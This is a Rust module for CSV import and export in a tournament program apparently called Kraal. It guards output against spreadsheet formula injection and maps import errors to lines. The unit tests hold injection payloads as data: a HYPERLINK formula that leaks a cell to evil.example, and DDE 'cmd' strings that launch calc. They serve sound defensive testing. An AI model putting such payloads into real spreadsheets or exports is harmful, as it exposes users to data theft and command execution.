//! CSV in and out. Every CSV Kraal writes has a header row and is UTF-8;
//! every CSV it reads is checked whole before anything is stored.

pub mod event;
pub mod games;
pub mod people;
pub mod players;
pub mod seasons;
pub mod standings;
pub mod teams;
pub mod trf;

/// Writes a CSV table: a header row, then one record per row. Every CSV
/// Kraal serves or prints is written here, so every one of them is
/// neutralised the same way against spreadsheet formulas (see [`cell`]).
pub fn table<R, C>(header: &[&str], rows: R) -> Result<Vec<u8>, csv::Error>
where
    R: IntoIterator<Item = Vec<C>>,
    C: AsRef<str>,
{
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(header)?;
    for row in rows {
        w.write_record(row.iter().map(|c| cell(c.as_ref()).into_owned()))?;
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// A cell as written: text a spreadsheet would run as a formula (starting
/// with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`,
/// which spreadsheets show as text. [`uncell`] takes it off again on import,
/// so a text that itself starts with such a quote gets one more.
pub fn cell(text: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

fn needs_quote(text: &str) -> bool {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
        Some('\'') => needs_quote(&text[1..]),
        _ => false,
    }
}

/// The text of a cell [`cell`] wrote.
pub fn uncell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => text,
    }
}

/// A CSV reader as the imports use it: a header row, fields trimmed, a
/// leading byte-order mark (spreadsheets write one) ignored.
pub(crate) fn import_reader(text: &str) -> csv::Reader<&[u8]> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(false)
        .trim(csv::Trim::All)
        .from_reader(text.as_bytes())
}

/// The columns an import's header names, and where they stand.
pub(crate) type Header = std::collections::HashMap<&'static str, usize>;

/// The header row of an import: the known columns found, with the problems
/// of the rest (an unknown column, other than `ignored` ones, or a column
/// given twice: on line 1, named with its column). An unreadable header row
/// is the one problem, as `Err`.
pub(crate) fn import_header(
    reader: &mut csv::Reader<&[u8]>,
    columns: &[&'static str],
    ignored: &[&str],
) -> Result<(Header, Vec<players::ImportError>), Vec<players::ImportError>> {
    let err = |column: &str, message: String| players::ImportError {
        line: 1,
        column: column.to_string(),
        message,
    };
    let headers = reader
        .headers()
        .map_err(|e| vec![err("", format!("cannot read the header row: {e}"))])?
        .clone();
    let mut errors = Vec::new();
    let mut index = std::collections::HashMap::new();
    for (i, h) in headers.iter().enumerate() {
        let low = h.to_ascii_lowercase();
        if let Some(col) = columns.iter().find(|c| **c == low) {
            if index.insert(*col, i).is_some() {
                errors.push(err(h, format!("column '{h}' appears twice")));
            }
        } else if !ignored.contains(&low.as_str()) {
            errors.push(err(
                h,
                format!("unknown column '{h}' (known: {})", columns.join(", ")),
            ));
        }
    }
    Ok((index, errors))
}

/// The data rows of an import (`text`, as given to [`import_reader`])
/// with their line numbers in the file (the header is line 1), blank rows left out; a row the reader cannot take is
/// a problem in `errors`, and the rows after it are still read.
pub(crate) fn import_rows(
    reader: &mut csv::Reader<&[u8]>,
    text: &str,
    errors: &mut Vec<players::ImportError>,
) -> Vec<(u64, csv::StringRecord)> {
    // The reader's offsets are in the text it was given: without the mark.
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut lines = Lines::new(text.as_bytes());
    let mut rows = Vec::new();
    let mut records = csv::StringRecord::new();
    loop {
        match reader.read_record(&mut records) {
            Ok(false) => break,
            Ok(true) if records.iter().all(|f| f.is_empty()) => {}
            Ok(true) => {
                let line = records.position().map_or(0, |p| lines.at(p.byte()));
                rows.push((line, records.clone()));
            }
            Err(e) => {
                let mut problem = unreadable(&e);
                if let Some(p) = e.position() {
                    problem.line = lines.at(p.byte());
                }
                errors.push(problem);
            }
        }
    }
    rows
}

/// Line numbers by byte offset in a text whose lines end in `\n`, `\r\n`
/// (a browser's text area sends these) or a lone `\r`, each counted once:
/// the CSV reader's own count takes `\r\n` as two.
struct Lines<'t> {
    text: &'t [u8],
    /// The last offset asked for and its line (rows are read in order).
    at: usize,
    line: u64,
}

impl<'t> Lines<'t> {
    fn new(text: &'t [u8]) -> Lines<'t> {
        Lines {
            text,
            at: 0,
            line: 1,
        }
    }

    /// The line of the byte at `offset`, counting on from the last one.
    fn at(&mut self, offset: u64) -> u64 {
        let mut offset = usize::try_from(offset)
            .unwrap_or(usize::MAX)
            .min(self.text.len());
        // A record's offset is where the reader began looking for it: the
        // blank lines it skipped come first.
        while matches!(self.text.get(offset), Some(b'\r' | b'\n')) {
            offset += 1;
        }
        if offset < self.at {
            self.at = 0;
            self.line = 1;
        }
        for i in self.at..offset {
            match self.text[i] {
                b'\n' => self.line += 1,
                b'\r' if self.text.get(i + 1) != Some(&b'\n') => self.line += 1,
                _ => {}
            }
        }
        self.at = offset;
        self.line
    }
}

/// A row's cell under the column `col` (empty when the file has no such
/// column), with the formula guard of [`cell`] taken off.
pub(crate) fn field<'r>(header: &Header, record: &'r csv::StringRecord, col: &str) -> &'r str {
    header
        .get(col)
        .and_then(|&i| record.get(i))
        .map(uncell)
        .unwrap_or("")
}

/// A line the reader could not take, as an import problem on that line.
pub(crate) fn unreadable(e: &csv::Error) -> players::ImportError {
    let line = e.position().map(|p| p.line()).unwrap_or(0);
    let message = match e.kind() {
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } => format!("{len} fields where the header has {expected_len}"),
        csv::ErrorKind::Utf8 { .. } => "the text is not valid UTF-8".to_string(),
        _ => e.to_string(),
    };
    players::ImportError {
        line,
        column: String::new(),
        message,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_rows_line_is_the_same_whatever_ends_the_lines() {
        for end in ["\n", "\r\n", "\r"] {
            let text = [
                "name,club",
                "Thabo Nkosi,Soweto MSC",
                "",
                "Lerato Dlamini,\"Tembisa",
                "MC\"",
                "Sipho Mokoena,Kagiso,extra",
                "Naledi Khumalo,",
            ]
            .join(end);
            let mut reader = import_reader(&text);
            let _ = reader.headers();
            let mut errors = Vec::new();
            let rows = import_rows(&mut reader, &text, &mut errors);
            let lines: Vec<u64> = rows.iter().map(|(l, _)| *l).collect();
            assert_eq!(lines, vec![2, 4, 7], "{end:?}");
            assert_eq!(errors.len(), 1, "{end:?}");
            assert_eq!(errors[0].line, 6, "{end:?}");
        }
    }

    #[test]
    fn formulas_are_written_as_text_and_read_back_unchanged() {
        for name in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\tTab",
            "\rReturn",
        ] {
            let written = cell(name);
            assert!(written.starts_with('\''), "{written}");
            assert_eq!(uncell(&written), name);
        }
        for odd in ["'=already quoted", "''+twice"] {
            assert_eq!(uncell(&cell(odd)), odd);
        }
        for plain in ["Thabo Mokoena", "'quoted", "O'Neill", "½", "4.5", ""] {
            assert_eq!(cell(plain), plain);
            assert_eq!(uncell(plain), plain);
        }
    }
}
